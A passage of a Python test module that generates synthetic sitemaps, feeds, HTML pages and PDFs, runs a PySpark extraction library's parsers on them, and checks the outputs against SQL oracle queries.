        f"<url><loc>https://site{i % 10}.example/p/{j}?a=1&amp;b=2</loc>"
        f"<lastmod>2024-0{1 + j % 9}-01</lastmod></url>"
        for j in range(n)
    )
    sm = _gz.compress(
        (f'<?xml version="1.0"?><urlset>{urls}</urlset>').encode(),
        mtime=0,
    )
    idx = (
        f"<sitemapindex><sitemap><loc>https://site{i % 10}.example"
        f"/s-{i}.xml.gz</loc></sitemap></sitemapindex>"
    ).encode()
    kind, entries = parse_sitemap(sm)
    ikind, ientries = parse_sitemap(idx)
    n_children = len(ientries) if ikind == "index" else -1
    if kind != "urlset":
        entries = []
    for pos, (loc, lastmod) in enumerate(entries):
        yield {
            "pos": pos,
            "loc": loc,
            "lastmod": lastmod,
            "n_index_children": n_children,
        }


ORACLE["qx16_sitemap_frontier"] = """
SELECT doc_id,
       CAST(j AS BIGINT) AS pos,
       'https://site' || (doc_id % 10) || '.example/p/' || j || '?a=1&b=2' AS loc,
       '2024-0' || (1 + j % 9) || '-01' AS lastmod,
       CAST(1 AS BIGINT) AS n_index_children
FROM documents,
     LATERAL (SELECT unnest(range(0, 2 + doc_id % 4)) AS j)
"""


_QX17_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("pos", LongType()),
        StructField("kind", StringType()),
        StructField("link", StringType()),
        StructField("title", StringType()),
    ]
)


@per_doc(QUERIES, "qx17_feed_frontier", _QX17_SCHEMA)
def _qx17(i: int) -> Iterator[dict]:
    """RSS/Atom feed frontier extraction (value oracle).

    Even doc_ids parse an RSS 2.0 feed, odd ones an Atom feed — both
    carrying 1 + doc_id % 3 entries with doc_id-derived links and titles
    (RSS titles CDATA-wrapped, Atom links attribute-borne) — through
    ``parse_feed``; the oracle recomputes kind/link/title arithmetically."""
    from pdf_spark.core.sitemap import parse_feed

    n = 1 + i % 3
    if i % 2 == 0:
        items = "".join(
            f"<item><title><![CDATA[Post {i}-{j}]]></title>"
            f"<link>https://feed{i % 5}.example/p/{j}</link></item>"
            for j in range(n)
        )
        feed = (
            '<?xml version="1.0"?><rss version="2.0"><channel>'
            f"<title>chan</title>{items}</channel></rss>"
        ).encode()
    else:
        items = "".join(
            f"<entry><title>Post {i}-{j}</title>"
            f'<link rel="alternate" href="https://feed{i % 5}.example/p/{j}"/>'
            "</entry>"
            for j in range(n)
        )
        feed = (
            '<feed xmlns="http://www.w3.org/2005/Atom">'
            f"<title>chan</title>{items}</feed>"
        ).encode()
    kind, entries = parse_feed(feed)
    for pos, (link, title) in enumerate(entries):
        yield {
            "pos": pos,
            "kind": kind,
            "link": link,
            "title": title,
        }


ORACLE["qx17_feed_frontier"] = """
SELECT doc_id,
       CAST(j AS BIGINT) AS pos,
       CASE WHEN doc_id % 2 = 0 THEN 'rss' ELSE 'atom' END AS kind,
       'https://feed' || (doc_id % 5) || '.example/p/' || j AS link,
       'Post ' || doc_id || '-' || j AS title
FROM documents,
     LATERAL (SELECT unnest(range(0, 1 + doc_id % 3)) AS j)
"""


_QX18_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("pos", LongType()),
        StructField("level", LongType()),
        StructField("title", StringType()),
    ]
)


@per_doc(QUERIES, "qx18_html_headings", _QX18_SCHEMA)
def _qx18(i: int) -> Iterator[dict]:
    """HTML heading outline (value oracle) — the HTML twin of qx13.

    Each page carries an h1 plus 1 + doc_id % 3 h2 sections (entities in
    titles, a decoy heading inside a script, one unclosed h2 recovered at
    EOF); the extracted (pos, level, title) rows are recomputed
    arithmetically by the oracle."""
    from pdf_spark.core.htmltext import extract_headings

    n = 1 + i % 3
    secs = "".join(
        f"<h2>Part {j} &amp; more</h2><p>body</p>" for j in range(n)
    )
    page = (
        f"<html><body><h1>Doc {i}</h1>{secs}"
        "<script>var d='<h3>decoy</h3>';</script>"
        f"<h2>Tail {i} (unclosed)"
    ).encode()
    for pos, (level, title) in enumerate(extract_headings(page)):
        yield {"pos": pos, "level": level, "title": title}


# pos 0 = h1; pos 1..n = h2 parts; pos n+1 = the unclosed tail h2
ORACLE["qx18_html_headings"] = """
SELECT doc_id,
       CAST(p AS BIGINT) AS pos,
       CAST(CASE WHEN p = 0 THEN 1 ELSE 2 END AS BIGINT) AS level,
       CASE WHEN p = 0 THEN 'Doc ' || doc_id
            WHEN p <= doc_id % 3 + 1 THEN 'Part ' || (p - 1) || ' & more'
            ELSE 'Tail ' || doc_id || ' (unclosed)' END AS title
FROM documents,
     LATERAL (SELECT unnest(range(0, doc_id % 3 + 3)) AS p)
"""


_QX19_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("pos", LongType()),
        StructField("href", StringType()),
        StructField("anchor", StringType()),
    ]
)


@per_doc(QUERIES, "qx19_anchor_text", _QX19_SCHEMA)
def _qx19(i: int) -> Iterator[dict]:
    """Anchor-text link graph (value oracle) — WAT records keep the text.

    Each page carries one fixed nav anchor, one per-doc anchor whose text
    nests markup, and a no-href anchor that must be skipped;
    ``extract_links_with_text`` returns (href, anchor) pairs the oracle
    recomputes from doc_id."""
    from pdf_spark.core.htmltext import extract_links_with_text

    page = (
        '<html><body><nav><a href="/home">Home page</a></nav>'
        f'<p>See <a href="/doc/{i}">doc <b>number {i}</b></a> now.</p>'
        "<a name='x'>not a link</a>"
        f'<a href="/next?id={i}&amp;ref=a">next &gt; page</a>'
        "</body></html>"
    ).encode()
    for pos, (href, anchor) in enumerate(
        extract_links_with_text(page)
    ):
        yield {"pos": pos, "href": href, "anchor": anchor}


ORACLE["qx19_anchor_text"] = """
SELECT doc_id,
       CAST(p AS BIGINT) AS pos,
       CASE p WHEN 0 THEN '/home'
              WHEN 1 THEN '/doc/' || doc_id
              ELSE '/next?id=' || doc_id || '&ref=a' END AS href,
       CASE p WHEN 0 THEN 'Home page'
              WHEN 1 THEN 'doc number ' || doc_id
              ELSE 'next > page' END AS anchor
FROM documents,
     LATERAL (SELECT unnest(range(0, 3)) AS p)
"""


def _qx20(spark: SparkSession, sf: str) -> DataFrame:
    """Frontier dedup capstone (value oracle): page links + sitemap locs +
    feed links — each through its REAL parser — unioned, then
    declaratively canonicalized (urlops: case, fragment, tracking params)
    and deduped per doc. The cross-source overlap is engineered so the
    unique count only comes out right if every parser AND the
    canonicalizer agree: n_raw = 5 + doc_id%3, n_unique = 2 + doc_id%3."""
    from pdf_spark.core.htmltext import extract_links
    from pdf_spark.core.sitemap import parse_feed, parse_sitemap
    from pdf_spark.functions.urlops import canonicalize_url

    docs = load(spark, sf, "documents").select("doc_id")
    raw_schema = StructType(
        [StructField("doc_id", LongType()), StructField("href", StringType())]
    )

    def lift(i):
        page = (
            '<html><body><a href="HTTPS://Site.Example/p/0#top">a</a>'
            f'<a href="https://site.example/doc/{i}">b</a></body></html>'
        ).encode()
        sm = (
            "<urlset>" + "".join(
                f"<url><loc>https://site.example/p/{j}</loc></url>"
                for j in range(1 + i % 3)
            ) + "</urlset>"
        ).encode()
        feed = (
            '<rss version="2.0"><channel>'
            "<item><link>https://site.example/p/0?utm_source=feed</link></item>"
            f"<item><link>https://site.example/doc/{i}</link></item>"
            "</channel></rss>"
        ).encode()
        hrefs = list(extract_links(page))
        hrefs += [loc for loc, _ in parse_sitemap(sm)[1]]
        hrefs += [link for link, _ in parse_feed(feed)[1]]
        for h in hrefs:
            yield {"doc_id": i, "href": h}

    lifted = map_rows(docs, lift, raw_schema)
    return (
        lifted.select("doc_id", canonicalize_url("href").alias("u"))
        .groupBy("doc_id")
        .agg(
            F.count("*").cast("long").alias("n_raw"),
            F.countDistinct("u").cast("long").alias("n_unique"),
        )
    )


QUERIES["qx20_frontier_dedup"] = _qx20
ORACLE["qx20_frontier_dedup"] = """
SELECT doc_id,
       CAST(5 + doc_id % 3 AS BIGINT) AS n_raw,
       CAST(2 + doc_id % 3 AS BIGINT) AS n_unique
FROM documents
"""


_QX21_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("field", StringType()),
        StructField("ftype", StringType()),
        StructField("value", StringType()),
    ]
)


@per_doc(QUERIES, "qx21_form_fields", _QX21_SCHEMA)
def _qx21(i: int) -> Iterator[dict]:
    """AcroForm field-value extraction (value oracle).

    Filled-form text lives OUTSIDE content streams (§12.7); this is the
    op that recovers it. Each doc synthesizes a field tree with doc_id-
    dependent values covering every walk behavior: a text field with a
    widget kid (must not double-emit), a UTF-16BE value, a /Btn name
    value, and a parent whose /T kids yield qualified names — one with
    its own /V, one inheriting the parent's. The oracle reconstructs all
    five rows per doc arithmetically."""
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import extract_form_fields
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj, _escb

    b = PdfBuilder.one_page()
    font = b.add(F_HELV)
    cont = b.stream(_content_td_tj(["form doc"]), filters="FlateDecode")
    f1 = b.reserve()
    w1 = b.add(
        b"<</Subtype/Widget/Rect[0 0 1 1]/Parent "
        + str(f1).encode() + b" 0 R>>"
    )
    b.set(
        f1,
        b"<</FT/Tx/T(name)/V(User " + str(i).encode() + b")/Kids["
        + str(w1).encode() + b" 0 R]>>",
    )
    utf16 = b"\xfe\xff" + f"Straße — 例 {i}".encode(
        "utf-16-be"
    )
    f2 = b.add(b"<</FT/Tx/T(title)/V(" + _escb(utf16) + b")>>")
    box = b"/Yes" if i % 2 == 0 else b"/Off"
    f3 = b.add(b"<</FT/Btn/T(subscribed)/V" + box + b">>")
    parent = b.reserve()
    k1 = b.add(
        b"<</T(street)/Parent " + str(parent).encode()
        + b" 0 R/V(Main St " + str(i % 97).encode() + b")>>"
    )
    k2 = b.add(
        b"<</T(city)/Parent " + str(parent).encode() + b" 0 R>>"
    )
    b.set(
        parent,
        b"<</FT/Tx/T(address)/V(Berlin)/Kids["
        + str(k1).encode() + b" 0 R " + str(k2).encode() + b" 0 R]>>",
    )
    acro = b.add(
        b"<</Fields["
        + b" ".join(
            str(f).encode() + b" 0 R" for f in (f1, f2, f3, parent)
        )
        + b"]>>"
    )
    pdf = b.build(
        b.page_tree(font, cont, catalog=b"/AcroForm %d 0 R" % acro)
    )
    for fname, ftype, val in extract_form_fields(Resolver(pdf)):
        yield {"field": fname, "ftype": ftype, "value": val}


ORACLE["qx21_form_fields"] = """
SELECT doc_id, 'name' AS field, 'Tx' AS ftype,
       'User ' || doc_id AS value FROM documents
UNION ALL
SELECT doc_id, 'title', 'Tx',
       'Stra' || chr(223) || 'e ' || chr(8212) || ' ' || chr(20363)
         || ' ' || doc_id FROM documents
UNION ALL
SELECT doc_id, 'subscribed', 'Btn',
       CASE WHEN doc_id % 2 = 0 THEN 'Yes' ELSE 'Off' END FROM documents
UNION ALL
SELECT doc_id, 'address.street', 'Tx',
       'Main St ' || (doc_id % 97) FROM documents
UNION ALL
SELECT doc_id, 'address.city', 'Tx', 'Berlin' FROM documents
"""


_QX22_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("n_images", LongType()),
        StructField("max_w", LongType()),
        StructField("max_h", LongType()),
        StructField("sum_pixels", LongType()),
    ]
)


@per_doc(QUERIES, "qx22_image_inventory", _QX22_SCHEMA)
def _qx22(i: int) -> Iterator[dict]:
    """Image XObject inventory (value oracle) — the multimodal mining op.

    Each doc synthesizes ``1 + i%3`` top-level page images (deterministic
    dims, DCTDecode — the dims come from the stream DICT, pixels are never
    decoded) plus one image reachable only through a Form XObject's own
    resources (the one-level-deep walk). The oracle recomputes the
    aggregate arithmetically."""
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import extract_image_inventory
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj

    w, h = 100 + i % 50, 50 + i % 40
    b = PdfBuilder.one_page()
    font = b.add(F_HELV)
    cont = b.stream(_content_td_tj(["img doc"]), filters="FlateDecode")
    imgs = [
        b.stream(
            b"\x00",
            extra_dict=(
                b"/Subtype/Image/Width " + str(w).encode()
                + b"/Height " + str(h).encode()
                + b"/BitsPerComponent 8/ColorSpace/DeviceRGB"
                + b"/Filter/DCTDecode"
            ),
        )
        for _ in range(1 + i % 3)
    ]
    inner = b.stream(
        b"\x00",
        extra_dict=(
            b"/Subtype/Image/Width 32/Height 32"
            b"/BitsPerComponent 1/Filter/FlateDecode"
        ),
    )
    form = b.stream(
        b"",
        extra_dict=(
            b"/Subtype/Form/BBox[0 0 1 1]"
            b"/Resources<</XObject<</Inner "
            + str(inner).encode() + b" 0 R>>>>"
        ),
    )
    xo = b"/Fm0 " + str(form).encode() + b" 0 R" + b"".join(
        b"/Im" + str(k).encode() + b" " + str(o).encode() + b" 0 R"
        for k, o in enumerate(imgs)
    )
    root = b.page_tree(font, cont, resources=b"/XObject<<" + xo + b">>")
    rows = extract_image_inventory(Resolver(b.build(root)))
    yield {
        "n_images": len(rows),
        "max_w": max((r[2] for r in rows), default=0),
        "max_h": max((r[3] for r in rows), default=0),
        "sum_pixels": sum(r[2] * r[3] for r in rows),
    }


ORACLE["qx22_image_inventory"] = """
SELECT doc_id,
       CAST(2 + doc_id % 3 AS BIGINT) AS n_images,
       CAST(100 + doc_id % 50 AS BIGINT) AS max_w,
       CAST(50 + doc_id % 40 AS BIGINT) AS max_h,
       CAST((1 + doc_id % 3) * (100 + doc_id % 50) * (50 + doc_id % 40)
            + 1024 AS BIGINT) AS sum_pixels
FROM documents
"""


_QX23_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("idx", LongType()),
        StructField("src", StringType()),
        StructField("alt", StringType()),
    ]
)


@per_doc(QUERIES, "qx23_image_alt_pairs", _QX23_SCHEMA)
def _qx23(i: int) -> Iterator[dict]:
    """Image-text pair mining (value oracle) — the LAION shape: every
    ``<img>``'s (src, alt) in document order, with a script-embedded
    decoy img that must NOT count (rawtext skip) and one uncaptioned
    image per doc (alt='')."""
    from pdf_spark.core.htmltext import extract_image_alts

    n_imgs = 1 + i % 3
    body = "".join(
        f'<p>text</p><img src="/img/{i}_{k}.jpg" '
        f'alt="caption {i} item {k}">'
        for k in range(n_imgs)
    )
    html = (
        "<html><body>"
        + body
        + "<script>var d='<img src=\"/decoy.jpg\" alt=\"x\">';"
        "</script>"
        + f'<img src="/img/{i}_plain.png">'
        + "</body></html>"
    ).encode()
    for idx, (src, alt) in enumerate(extract_image_alts(html)):
        yield {"idx": idx, "src": src, "alt": alt}


ORACLE["qx23_image_alt_pairs"] = """
SELECT doc_id,
       CAST(k AS BIGINT) AS idx,
       '/img/' || doc_id || '_' || k || '.jpg' AS src,
       'caption ' || doc_id || ' item ' || k AS alt
FROM documents, LATERAL unnest(range(0, 1 + doc_id % 3)) t(k)
UNION ALL
SELECT doc_id,
       CAST(1 + doc_id % 3 AS BIGINT) AS idx,
       '/img/' || doc_id || '_plain.png' AS src,
       '' AS alt
FROM documents
"""


def _qx24(spark: SparkSession, sf: str) -> DataFrame:
    """Markdown-tier extraction (value-hashed, constant-true oracle): for
    every document, build all five HTML variants and verify that
    ``extract_markdown`` — the structure-preserving serializer over the
    SAME classified blocks as the plain-text path — reproduces the
    generator-predicted markdown byte-for-byte (heading levels, list
    grouping, separators), AND that stripping its markers recovers
    exactly the plain extracted text (the two serializers may never
    diverge on content coverage). Narrow mapInPandas, zero shuffles."""
    import re as _re

    from pdf_spark.core.htmltext import extract_main_text, extract_markdown
    from pdf_spark.gen import htmlgen as hg
    from pdf_spark.gen.pdfgen import wrap_lines

    docs = load(spark, sf, "documents").select("doc_id", "text")
    variants = (
        ("html_article", hg.html_article),
        ("html_messy", hg.html_messy),
        ("html_table_list", hg.html_table_list),
        ("html_win1251", hg.html_win1251),
        ("html_structured", hg.html_structured),
    )
    strip = _re.compile(r"^(#{1,6} |- |> |```$)", _re.M)

    def check(doc_id, text):
        lines = wrap_lines(text or "")
        ok = True
        for name, fn in variants:
            page = fn(lines)
            md = extract_markdown(page)
            if md != hg.expected_markdown_for_variant(name, lines):
                ok = False
                break
            flat = "\n".join(
                l for l in strip.sub("", md).split("\n") if l
            )
            if flat != extract_main_text(page):
                ok = False
                break
        yield {"doc_id": doc_id, "ok": ok}

    ok_schema = StructType(
        [StructField("doc_id", LongType()), StructField("ok", BooleanType())]
    )
    return map_rows(docs, check, ok_schema)


QUERIES["qx24_html_markdown"] = _qx24
ORACLE["qx24_html_markdown"] = (
    "SELECT doc_id, CAST('t' AS BOOLEAN) AS ok FROM documents"
)


def _qx25(spark: SparkSession, sf: str) -> DataFrame:
    """Per-host politeness scheduling (the crawler op downstream of
    robots + frontier): each doc's robots.txt carries a Crawl-delay for
    our agent (host-consistent: 1 + (doc_id%20)%5 s) and a '*' group
    with a decoy delay that must NOT be selected; the REAL parser
    (`core/robots.crawl_delay_for`, longest-agent-match with '*'
    fallback) extracts it, then the fetch schedule is DECLARATIVE:
    fetch_slot = ROW_NUMBER() PARTITION BY host ORDER BY url, fetch_at_s
    = slot * delay. At 10^12 frontier URLs the window is bounded by the
    hottest host (the true constraint a polite crawler schedules
    around), never the corpus; the oracle recomputes the delay
    arithmetically so a wrong group selection fails the value hash."""
    from pdf_spark.core.robots import crawl_delay_for

    docs = load(spark, sf, "documents").select("doc_id")
    schema = StructType(
        [
            StructField("host", StringType()),
            StructField("url", StringType()),
            StructField("crawl_delay", LongType()),
        ]
    )

    def schedule(i):
        h = i % 20
        robots = (
            "User-agent: trainbot\n"
            f"Crawl-delay: {1 + h % 5}\n"
            "Disallow: /private/\n"
            "\n"
            "User-agent: *\n"
            "Crawl-delay: 60\n"
        ).encode()
        delay = crawl_delay_for(robots, "trainbot/1.0")
        host = f"host{h}.example"
        for j in range(2 + i % 3):
            yield {
                "host": host,
                "url": f"https://{host}/doc{i}/p{j}",
                "crawl_delay": int(delay),
            }

    per_url = map_rows(docs, schedule, schema)
    per_url.createOrReplaceTempView("qx25_frontier")
    return spark.sql(
        """
        SELECT host, url, crawl_delay,
               CAST(ROW_NUMBER() OVER (PARTITION BY host ORDER BY url) - 1
                    AS BIGINT) AS fetch_slot,
               CAST((ROW_NUMBER() OVER (PARTITION BY host ORDER BY url) - 1)
                    * crawl_delay AS BIGINT) AS fetch_at_s
        FROM qx25_frontier
        """
    )


QUERIES["qx25_politeness_schedule"] = _qx25
ORACLE["qx25_politeness_schedule"] = """
WITH frontier AS (
  SELECT 'host' || (doc_id % 20) || '.example' AS host,
         'https://host' || (doc_id % 20) || '.example/doc' || doc_id
           || '/p' || j AS url,
         CAST(1 + (doc_id % 20) % 5 AS BIGINT) AS crawl_delay
  FROM documents,
       LATERAL (SELECT unnest(range(0, 2 + documents.doc_id % 3)) AS j)
)
SELECT host, url, crawl_delay,
       CAST(ROW_NUMBER() OVER (PARTITION BY host ORDER BY url) - 1
            AS BIGINT) AS fetch_slot,
       CAST((ROW_NUMBER() OVER (PARTITION BY host ORDER BY url) - 1)
            * crawl_delay AS BIGINT) AS fetch_at_s
FROM frontier
"""


# -- qx26: PDF table-cell recovery from span geometry ---------------------------
#
# Layout tier: a deterministic grid PDF per sampled doc (dims and cell
# text pure functions of doc_id), extracted to spans, recovered to
# (row, col, text) by core.extract.detect_table_cells — the PDF twin of
# the HTML <td> walk (qx09). The oracle reconstructs every expected
# cell arithmetically, so the whole geometry -> grid chain (Tm
# placement, span emission, y-row clustering, repeated-x column
# election, row-major ordering) is value-hashed end to end.

_TABLE_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("row_idx", LongType()),
        StructField("col_idx", LongType()),
        StructField("cell_text", StringType()),
    ]
)


def _grid_pdf(doc_id: int) -> bytes:
    from pdf_spark.gen.pdfgen import PdfBuilder

    rows = doc_id % 3 + 2
    cols = doc_id % 4 + 2
    b = PdfBuilder.one_page()
    font = b.add(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
    ops = [b"BT /F1 10 Tf"]
    for r in range(rows):
        for c in range(cols):
            ops.append(
                f"1 0 0 1 {72 + 90 * c} {700 - 24 * r} Tm "
                f"(r{r}c{c}d{doc_id % 1000}) Tj".encode()
            )
    ops.append(b"ET")
    cont = b.stream(b"\n".join(ops))
    return b.build(b.page_tree(font, cont))


@per_doc(QUERIES, "qx26_pdf_table_cells", _TABLE_SCHEMA)
def _qx26(did: int) -> Iterator[dict]:
    from pdf_spark.core.extract import detect_table_cells

    if did % 10:
        return  # one doc in ten is sampled
    r = extract_document(_grid_pdf(did))
    for _page, ri, ci, text in detect_table_cells(r.spans):
        yield dict(zip(_TABLE_SCHEMA.names, (did, ri, ci, text)))


ORACLE["qx26_pdf_table_cells"] = """
SELECT d.doc_id,
       CAST(r AS BIGINT) AS row_idx,
       CAST(c AS BIGINT) AS col_idx,
       'r' || r || 'c' || c || 'd' || (d.doc_id % 1000) AS cell_text
FROM documents d,
     LATERAL UNNEST(generate_series(0, CAST(d.doc_id % 3 + 1 AS INT))) AS tr(r),
     LATERAL UNNEST(generate_series(0, CAST(d.doc_id % 4 + 1 AS INT))) AS tc(c)
WHERE d.doc_id % 10 = 0
"""

# -- qx27: PDF heading detection by font size ------------------------------------
#
# Layout tier twin of the HTML heading walk (qx18): k = doc_id%3+1
# headings at 18pt, each followed by two 12pt body lines; the modal-size
# rule in core.extract.classify_headings must return exactly the heading
# lines (indices i*3) — what a markdownified-PDF tier prefixes with '#'.

_HEAD_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("line_idx", LongType()),
        StructField("heading", StringType()),
    ]
)


def _heading_pdf(doc_id: int) -> bytes:
    from pdf_spark.gen.pdfgen import PdfBuilder

    k = doc_id % 3 + 1
    b = PdfBuilder.one_page()
    font = b.add(b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>")
    ops = [b"BT"]
    y = 720
    for i in range(k):
        ops.append(
            f"/F1 18 Tf 1 0 0 1 72 {y} Tm (h{i}d{doc_id % 1000}) Tj".encode()
        )
        y -= 20
        for j in range(2):
            ops.append(
                f"/F1 12 Tf 1 0 0 1 72 {y} Tm (body {i} {j}) Tj".encode()
            )
            y -= 16
    ops.append(b"ET")
    cont = b.stream(b"\n".join(ops))
    return b.build(b.page_tree(font, cont))


@per_doc(QUERIES, "qx27_pdf_headings", _HEAD_SCHEMA)
def _qx27(did: int) -> Iterator[dict]:
    from pdf_spark.core.extract import classify_headings

    r = extract_document(_heading_pdf(did))
    for li, text in classify_headings(r.spans):
        yield {"line_idx": li, "heading": text}


ORACLE["qx27_pdf_headings"] = """
SELECT d.doc_id,
       CAST(i * 3 AS BIGINT) AS line_idx,
       'h' || i || 'd' || (d.doc_id % 1000) AS heading
FROM documents d,
     LATERAL UNNEST(generate_series(0, CAST(d.doc_id % 3 AS INT))) AS t(i)
"""

# -- qx28: markdownified-PDF serialization contract -------------------------------
#
# The qx24 contract held on the PDF side: assemble_markdown over the
# deterministic heading docs must equal the arithmetic construction
# (headings '## '-prefixed, bodies verbatim, same reading order), and
# stripping the markers must recover assemble_text exactly — coverage
# equality between the two serializations by construction.

_MD_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("md", StringType()),
        StructField("coverage_equal", BooleanType()),
    ]
)


@per_doc(QUERIES, "qx28_pdf_markdown", _MD_SCHEMA)
def _qx28(did: int) -> Iterator[dict]:
    from pdf_spark.core.extract import assemble_markdown

    r = extract_document(_heading_pdf(did))
    md = assemble_markdown(r.spans)
    stripped = "\n".join(
        l[3:] if l.startswith("## ") else l
        for l in md.split("\n")
    )
    yield {
        "md": md,
        "coverage_equal": stripped == assemble_text(r.spans),
    }


ORACLE["qx28_pdf_markdown"] = """
WITH lines AS (
  SELECT d.doc_id, i,
         '## h' || i || 'd' || (d.doc_id % 1000) || chr(10) ||
         'body ' || i || ' 0' || chr(10) ||
         'body ' || i || ' 1' AS block
  FROM documents d,
       LATERAL UNNEST(generate_series(0, CAST(d.doc_id % 3 AS INT))) AS t(i)
)
SELECT doc_id,
       string_agg(block, chr(10) ORDER BY i) AS md,
       CAST('t' AS BOOLEAN) AS coverage_equal
FROM lines GROUP BY doc_id
"""


# -- qx29: markup-annotation text (reviewer-comment side channel) -------------


_QX29_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("page_no", LongType()),
        StructField("subtype", StringType()),
        StructField("text", StringType()),
    ]
)


@per_doc(QUERIES, "qx29_annotation_texts", _QX29_SCHEMA)
def _qx29(i: int) -> Iterator[dict]:
    """Markup-annotation ``/Contents`` extraction (value oracle).

    Reviewer comments (§12.5.6.2) live OUTSIDE content streams, like
    AcroForm values (qx21) — a corpus pipeline that drops them loses the
    annotation layer entirely. Each doc synthesizes: a /Text sticky note
    (PDFDoc-encoded), a /FreeText with a UTF-16BE text string, a
    /Highlight comment on every third doc, PLUS three rows that must NOT
    emit — the /Popup mirror of the sticky note (§12.5.6.14 duplicate), a
    /Link (its payload is the URI channel), and a /Square with no
    /Contents. The oracle reconstructs the emitted rows arithmetically."""
    from pdf_spark.core.document import Resolver
    from pdf_spark.core.meta import extract_annotation_texts
    from pdf_spark.gen.pdfgen import F_HELV, PdfBuilder, _content_td_tj, _escb

    b = PdfBuilder.one_page()
    font = b.add(F_HELV)
    cont = b.stream(
        _content_td_tj(["annotated"]), filters="FlateDecode"
    )
    pop = b.reserve()
    note = b"Fix section " + str(i % 50).encode()
    a1 = b.add(
        b"<</Type/Annot/Subtype/Text/Rect[0 0 9 9]/Contents("
        + note + b")/Popup " + str(pop).encode() + b" 0 R>>"
    )
    b.set(
        pop,
        b"<</Type/Annot/Subtype/Popup/Rect[0 0 9 9]/Contents("
        + note + b")>>",
    )
    u16 = b"\xfe\xff" + f"Nota — {i}".encode("utf-16-be")
    a2 = b.add(
        b"<</Type/Annot/Subtype/FreeText/Rect[0 0 9 9]/Contents("
        + _escb(u16) + b")>>"
    )
    a3 = b.add(
        b"<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/Contents(alt)"
        b"/A<</S/URI/URI(https://example.com)>>>>"
    )
    a4 = b.add(b"<</Type/Annot/Subtype/Square/Rect[0 0 9 9]>>")
    ids = [a1, pop, a2, a3, a4]
    if i % 3 == 0:
        ids.append(
            b.add(
                b"<</Type/Annot/Subtype/Highlight/Rect[0 0 9 9]"
                b"/Contents(hl " + str(i % 7).encode() + b")>>"
            )
        )
    pdf = b.build(b.page_tree(font, cont, annots=ids))
    for page_no, subtype, text in extract_annotation_texts(
        Resolver(pdf)
    ):
        yield {
            "page_no": page_no,
            "subtype": subtype,
            "text": text,
        }


ORACLE["qx29_annotation_texts"] = """
SELECT doc_id, 0 AS page_no, 'Text' AS subtype,
       'Fix section ' || (doc_id % 50) AS text FROM documents
UNION ALL
SELECT doc_id, 0, 'FreeText',
       'Nota ' || chr(8212) || ' ' || doc_id FROM documents
UNION ALL
SELECT doc_id, 0, 'Highlight', 'hl ' || (doc_id % 7)
FROM documents WHERE doc_id % 3 = 0
"""


# -- qx30: index-eligibility decision (meta robots + canonical) ----------------


def _qx30(spark: SparkSession, sf: str) -> DataFrame:
    """The per-page INDEX DECISION a crawler makes before a document may
    enter the corpus: ``<meta name=robots>`` directives (noindex drops
    the page, nofollow stops link mining — directives UNION across
    multiple tags, the documented Google/Bing combination rule) plus
    ``rel=canonical`` self-or-elsewhere (a non-self canonical means the
    text belongs to ANOTHER url — corpus builders either skip or re-key).

    Five directive classes by doc_id % 5: none / noindex / nofollow (as
    two separate meta tags, exercising the union) / 'noindex, nofollow'
    (one tag, comma form) / 'all'. Canonical points to the doc_id%3
    block head, so is_canonical_self is true iff doc_id % 3 == 0.

    Only the STRING extraction (robots union, canonical href) happens in
    Python; the directive parse + decision logic is Catalyst expressions
    (split/trim/contains over the tiny robots string), so the decision
    tier itself is JVM-side at 10^12 rows."""
    from html import escape

    from pdf_spark.core.htmltext import extract_html_meta

    docs = load(spark, sf, "documents").select("doc_id", "text")
    schema = StructType(
        [
            StructField("doc_id", LongType()),
            StructField("robots", StringType()),
            StructField("canonical", StringType()),
        ]
    )

    def meta(i, text):
        cls = i % 5
        tags = {
            0: "",
            1: '<meta name="robots" content="noindex">',
            2: '<meta name="robots" content="noindex">'
               '<meta name="ROBOTS" content="nofollow">',
            3: '<meta name="robots" content="noindex, nofollow">',
            4: '<meta name="robots" content="all">',
        }[cls]
        canonical = f"https://example.com/doc/{i - i % 3}"
        page = (
            f"<!doctype html><html><head><title>d{i}</title>{tags}"
            f'<link rel="canonical" href="{canonical}">'
            "</head><body><p>"
            + escape(str(text) or "x")
            + "</p></body></html>"
        ).encode()
        hm = extract_html_meta(page)
        yield {
            "doc_id": i,
            "robots": hm["robots"],
            "canonical": hm["canonical"],
        }

    ex = map_rows(docs, meta, schema)
    ex.createOrReplaceTempView("qx30_extracted")
    return spark.sql(
        """
        SELECT doc_id, robots, canonical,
               NOT (robots IS NOT NULL AND EXISTS(
                   split(robots, ','), x -> trim(lower(x)) = 'noindex'
               )) AS indexable,
               NOT (robots IS NOT NULL AND EXISTS(
                   split(robots, ','), x -> trim(lower(x)) = 'nofollow'
               )) AS follow_links,
               canonical = concat('https://example.com/doc/',
                                  CAST(doc_id AS STRING))
                   AS is_canonical_self
        FROM qx30_extracted
        """
    )


QUERIES["qx30_index_eligibility"] = _qx30
ORACLE["qx30_index_eligibility"] = """
SELECT doc_id,
       CASE doc_id % 5
            WHEN 1 THEN 'noindex'
            WHEN 2 THEN 'noindex,nofollow'
            WHEN 3 THEN 'noindex, nofollow'
            WHEN 4 THEN 'all' END AS robots,
       'https://example.com/doc/' || (doc_id - doc_id % 3) AS canonical,
       doc_id % 5 IN (0, 4) AS indexable,
       doc_id % 5 IN (0, 1, 4) AS follow_links,
       doc_id % 3 = 0 AS is_canonical_self
FROM documents
"""


# -- qx31: embedded-file attachments (name tree + FileAttachment annots) ------


_QX31_SCHEMA = StructType(
    [
        StructField("doc_id", LongType()),
        StructField("source", StringType()),
        StructField("fname", StringType()),
